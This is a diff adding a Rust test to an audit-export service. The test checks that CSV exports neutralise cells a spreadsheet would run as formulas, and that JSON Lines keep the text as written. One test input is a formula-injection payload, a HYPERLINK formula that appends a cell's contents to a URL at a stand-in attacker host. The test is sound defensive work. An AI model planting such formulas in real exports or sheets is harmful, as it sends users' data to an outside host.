@@ -567,6 +567,45 @@ async fn exports_read_back_as_the_rows_of_the_page() {
 }
 
 #[tokio::test]
+async fn csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised() {
+    on_each_backend(|url| async move {
+        let server = started(&url).await;
+        let query = "?repo=acme%2Flib&conclusion=success";
+        for title in [
+            "=HYPERLINK(\"https://evil.example/?\"&A1,\"Details\")",
+            "+1+1",
+            "-1",
+            "@SUM(A1:A9)",
+            "\tX",
+            "\rX",
+        ] {
+            record(&server.store, "acme/lib", 3, title, ChangeStatus::Closed).await;
+            let (csv_rows, _) = export(&server, &format!("/audit/export.csv{query}")).await;
+            let (jsonl_rows, _) = export(&server, &format!("/audit/export.jsonl{query}")).await;
+            assert_eq!(csv_rows[0].title, format!("'{title}"), "{title:?}");
+            assert_eq!(
+                jsonl_rows[0].title, title,
+                "JSON Lines carry the text as written"
+            );
+        }
+
+        let mut seen =
+            NewAuditEvent::new("github", "acme/app", EventKind::AgentIdentified, at(24, 8));
+        seen.change = Some(5);
+        seen.agent = Some("=1+1".into());
+        server.store.append_audit(&[seen]).await.unwrap();
+        let body = html(&server, "/audit/agents/export.csv").await;
+        let ids: Vec<String> = csv::Reader::from_reader(body.as_bytes())
+            .records()
+            .map(|r| r.unwrap()[0].to_owned())
+            .collect();
+        assert!(ids.contains(&"'=1+1".to_owned()), "{ids:?}");
+        assert!(!ids.contains(&"=1+1".to_owned()), "{ids:?}");
+    })
+    .await;
+}
+
+#[tokio::test]
 async fn the_agents_page_lists_unregistered_agents_first_with_their_counts() {
     on_each_backend(|url| async move {
         let server = started(&url).await;
